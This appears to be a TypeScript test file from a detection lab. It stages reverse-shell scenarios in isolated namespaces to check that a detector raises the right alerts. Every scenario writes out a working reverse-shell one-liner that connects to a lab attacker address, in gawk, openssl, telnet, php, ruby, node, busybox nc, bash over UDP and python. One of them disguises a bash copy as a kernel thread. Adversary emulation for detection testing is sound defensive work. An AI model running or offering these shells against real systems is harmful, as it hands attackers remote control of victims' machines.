// Session 4: shell variants (issue 11, class 1) staged nowhere else, after common adversary-emulation
// one-liners: awk's /inet files, TLS and telnet relays, php, ruby, node, busybox, a UDP shell, a renamed
// shell copy, a socketpair relayed by a networked parent. The download-and-run variants (class 2) are in
// scenarios-session4-dropped.ts and share this file's listeners and helpers.
import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { TechniqueId } from '../../src-shared/attack';
import type { Alert } from '../../src-shared/model';
import { startAgent } from './agents';
import { ADDR, NS, delay, type Lab, type LabProcess } from './lab';
import { mentions, stopping } from './scenario-kit';
import type { Scenario, StagedActivity } from './scenarios';
import { waitForSocket } from './scenario-kit-net';

/** Session 4's attacker listeners on the "internet" host (shell: sends `id`, then `uname -a` every 2 s). */
export const PORTS = {
  gawk: 6001,
  telnetIn: 6002,
  telnetOut: 6003,
  php: 6004,
  ruby: 6005,
  node: 6006,
  busybox: 6007,
  renamed: 6008,
  pair: 6009,
  memfd: 6010,
  rubyLoop: 6011,
};
const TLS_PORT = 6443;
const UDP_PORT = 6053;
const ALSO_TRUE: TechniqueId[] = ['T1059', 'T1571'];

const shellTo =
  (port: number, ...names: string[]) =>
  (alert: Alert): boolean =>
    alert.techniqueId === 'T1059.004' && mentions(alert, `${ADDR.ext}:${port}`) && names.every((n) => mentions(alert, n));

export async function shellListeners(lab: Lab, shells: number[], sinks: number[] = []): Promise<LabProcess> {
  const specs = [...shells.map((p) => `${ADDR.ext}:${p}=shell`), ...sinks.map((p) => `${ADDR.ext}:${p}=sink`)];
  return startAgent(lab, NS.ext, 'tcp-server', ['--name', 'session4-shells', ...specs.flatMap((s) => ['--listen', s])]);
}

/** A victim `bash -c` script (in a scratch folder) against this scenario's listeners. */
export async function victimScript(
  lab: Lab,
  script: string,
  names: (a: Alert) => boolean,
  listeners: LabProcess,
  extra: LabProcess[] = [],
): Promise<StagedActivity> {
  const victim = lab.run(NS.victim, ['bash', '--norc', '-c', `cd ${lab.tmp} && ${script}`]);
  return { names, stop: stopping(victim, listeners, ...extra) };
}

/** Stops the activity, then deletes the file it ran from. */
export function removing(activity: StagedActivity, path: string): () => Promise<void> {
  return async () => {
    await activity.stop();
    rmSync(path, { force: true });
  };
}

/** A session 4 scenario: a reverse shell (T1059.004, also T1059 and T1571) unless it says otherwise. */
export const scenario = (s: Omit<Scenario, 'expected' | 'alsoTrue'> & Partial<Pick<Scenario, 'expected' | 'alsoTrue'>>): Scenario => ({
  expected: 'T1059.004',
  alsoTrue: ALSO_TRUE,
  ...s,
});

const PYTHON_PAIR_RELAY = (port: number) => String.raw`
import select, socket, subprocess
s = socket.create_connection(("${ADDR.ext}", ${port}))
a, b = socket.socketpair()
subprocess.Popen(["/bin/sh", "-i"], stdin=a, stdout=a, stderr=a)
a.close()
while True:
    for x in select.select([s, b], [], [])[0]:
        d = x.recv(4096)
        if not d:
            raise SystemExit
        (b if x is s else s).sendall(d)
`;

export const SESSION4_SHELL_SCENARIOS: Scenario[] = [
  scenario({
    id: 's4-shell-gawk-inet',
    title: `gawk reverse shell: BEGIN{s="/inet/tcp/0/${ADDR.ext}/${PORTS.gawk}"} runs each received line through a |& coprocess`,
    mustName: `gawk and ${ADDR.ext}:${PORTS.gawk}`,
    needs: ['gawk'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `gawk 'BEGIN{s="/inet/tcp/0/${ADDR.ext}/${PORTS.gawk}"; while((s |& getline c)>0){ while((c |& getline l)>0) print l |& s; close(c) } }'`,
        shellTo(PORTS.gawk, 'gawk'),
        await shellListeners(lab, [PORTS.gawk]),
      ),
  }),
  scenario({
    id: 's4-shell-openssl-fifo',
    title: `TLS reverse shell: mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect ${ADDR.ext}:${TLS_PORT} > f`,
    mustName: `sh, openssl and ${ADDR.ext}:${TLS_PORT}`,
    needs: ['openssl', 'mkfifo'],
    windowMs: 12_000,
    async stage(lab) {
      const dir = mkdtempSync(join(lab.tmp, 'tls-'));
      execFileSync(
        'openssl',
        ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'k'), '-out', join(dir, 'c'), '-days', '1', '-subj', '/CN=lab'],
        { stdio: 'ignore' },
      );
      const server = lab.run(NS.ext, [
        'bash',
        '--norc',
        '-c',
        `(while :; do echo id; sleep 2; done) | openssl s_server -quiet -accept ${ADDR.ext}:${TLS_PORT} -key ${join(dir, 'k')} -cert ${join(dir, 'c')}`,
      ]);
      await waitForSocket(lab, NS.ext, ['-ltn'], `:${TLS_PORT}`);
      const victim = lab.run(NS.victim, [
        'bash',
        '--norc',
        '-c',
        `cd ${dir} && mkfifo f && sh -i < f 2>&1 | openssl s_client -quiet -connect ${ADDR.ext}:${TLS_PORT} > f`,
      ]);
      return { names: shellTo(TLS_PORT, 'openssl'), stop: stopping(victim, server) };
    },
  }),
  scenario({
    id: 's4-shell-telnet-two-leg',
    title: `telnet ${ADDR.ext} ${PORTS.telnetIn} | /bin/sh | telnet ${ADDR.ext} ${PORTS.telnetOut} (commands in on one connection, output out on another)`,
    mustName: `sh, telnet and ${ADDR.ext}:${PORTS.telnetIn}`,
    needs: ['telnet'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `telnet ${ADDR.ext} ${PORTS.telnetIn} | /bin/sh | telnet ${ADDR.ext} ${PORTS.telnetOut}`,
        (a) => shellTo(PORTS.telnetIn, 'telnet')(a) || shellTo(PORTS.telnetOut, 'telnet')(a),
        await shellListeners(lab, [PORTS.telnetIn], [PORTS.telnetOut]),
      ),
  }),
  scenario({
    id: 's4-shell-php-proc-open',
    title: `php -r '$s=fsockopen("${ADDR.ext}",${PORTS.php}); proc_open("sh", [$s,$s,$s], $pipes)'`,
    mustName: `sh (started by php) on ${ADDR.ext}:${PORTS.php}`,
    needs: ['php'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `php -r '$s=fsockopen("${ADDR.ext}",${PORTS.php});$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'`,
        shellTo(PORTS.php, 'sh'),
        await shellListeners(lab, [PORTS.php]),
      ),
  }),
  scenario({
    id: 's4-shell-ruby-socket',
    // Ruby marks every descriptor close-on-exec, so the textbook `exec "/bin/sh -i <&5 …"` fails on
    // Ruby ≥ 2; spawn with the socket as the child's stdio is what works.
    title: `ruby -rsocket: TCPSocket to ${ADDR.ext}:${PORTS.ruby}, spawn("/bin/sh","-i", in: c, out: c, err: c)`,
    mustName: `sh on ${ADDR.ext}:${PORTS.ruby}`,
    needs: ['ruby'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${PORTS.ruby});Process.wait(spawn("/bin/sh","-i",in: c,out: c,err: c))'`,
        shellTo(PORTS.ruby, 'sh'),
        await shellListeners(lab, [PORTS.ruby]),
      ),
  }),
  scenario({
    id: 's4-shell-ruby-popen-loop',
    title: `ruby -rsocket command loop: each line from ${ADDR.ext}:${PORTS.rubyLoop} runs through IO.popen, its output written back`,
    mustName: `ruby and ${ADDR.ext}:${PORTS.rubyLoop}`,
    needs: ['ruby'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `ruby -rsocket -e 'c=TCPSocket.new("${ADDR.ext}",${PORTS.rubyLoop});while(l=c.gets);IO.popen(l.chomp,"r"){|io|c.print io.read};end'`,
        (a) => mentions(a, `${ADDR.ext}:${PORTS.rubyLoop}`) && a.process?.name === 'ruby',
        await shellListeners(lab, [PORTS.rubyLoop]),
      ),
  }),
  scenario({
    id: 's4-shell-node-spawn',
    title: `node -e: net.connect(${ADDR.ext}:${PORTS.node}) piped to and from child_process.spawn("/bin/sh")`,
    mustName: `sh, node and ${ADDR.ext}:${PORTS.node}`,
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `node -e 'const s=require("net").connect(${PORTS.node},"${ADDR.ext}",()=>{const sh=require("child_process").spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})'`,
        shellTo(PORTS.node, 'sh', 'node'),
        await shellListeners(lab, [PORTS.node]),
      ),
  }),
  scenario({
    id: 's4-shell-busybox-fifo',
    title: `busybox only: busybox mkfifo f; busybox sh -i < f 2>&1 | busybox nc ${ADDR.ext} ${PORTS.busybox} > f`,
    mustName: `busybox sh, busybox nc and ${ADDR.ext}:${PORTS.busybox}`,
    needs: ['busybox'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `rm -f bb.fifo && busybox mkfifo bb.fifo && busybox sh -i < bb.fifo 2>&1 | busybox nc ${ADDR.ext} ${PORTS.busybox} > bb.fifo`,
        shellTo(PORTS.busybox, 'busybox'),
        await shellListeners(lab, [PORTS.busybox]),
      ),
  }),
  scenario({
    id: 's4-shell-bash-udp',
    title: `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1 (a UDP shell; the attacker answers with ncat -u -l)`,
    mustName: `bash on UDP ${ADDR.ext}:${UDP_PORT}`,
    needs: ['ncat'],
    windowMs: 12_000,
    async stage(lab) {
      const server = lab.run(NS.ext, ['bash', '--norc', '-c', `(while :; do echo id; sleep 2; done) | ncat -u -l ${ADDR.ext} ${UDP_PORT}`]);
      await delay(300);
      const victim = lab.run(NS.victim, ['bash', '--norc', '-c', `bash --norc -i >& /dev/udp/${ADDR.ext}/${UDP_PORT} 0>&1`]);
      return { names: (a) => shellTo(UDP_PORT, 'bash')(a) && a.process?.name === 'bash', stop: stopping(victim, server) };
    },
  }),
  scenario({
    id: 's4-shell-renamed-copy',
    title: `python3 dup2s a socket to ${ADDR.ext}:${PORTS.renamed} onto 0-2 and execs a copy of bash in /tmp named like a kernel thread`,
    mustName: `the copied shell (exe /tmp/…) on ${ADDR.ext}:${PORTS.renamed}`,
    alsoTrue: [...ALSO_TRUE, 'T1105'],
    windowMs: 12_000,
    async stage(lab) {
      const exe = `/tmp/nslab-kworker-${process.pid}`;
      copyFileSync('/bin/bash', exe);
      const activity = await victimScript(
        lab,
        `python3 -c 'import os,socket;s=socket.create_connection(("${ADDR.ext}",${PORTS.renamed}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("${exe}",["[kworker/0:1]","-i"])'`,
        (a) => shellTo(PORTS.renamed)(a) && a.process?.exe === exe,
        await shellListeners(lab, [PORTS.renamed]),
      );
      return { ...activity, stop: removing(activity, exe) };
    },
  }),
  scenario({
    id: 's4-shell-python-socketpair-relay',
    title: `python3 relays ${ADDR.ext}:${PORTS.pair} to sh -i whose stdio is one end of a socketpair`,
    mustName: `sh, python3 and ${ADDR.ext}:${PORTS.pair}`,
    windowMs: 12_000,
    stage: async (lab) => {
      const listeners = await shellListeners(lab, [PORTS.pair]);
      const victim = lab.run(NS.victim, ['python3', '-c', PYTHON_PAIR_RELAY(PORTS.pair)]);
      return { names: (a) => shellTo(PORTS.pair, 'sh')(a) && mentions(a, 'socketpair'), stop: stopping(victim, listeners) };
    },
  }),
];
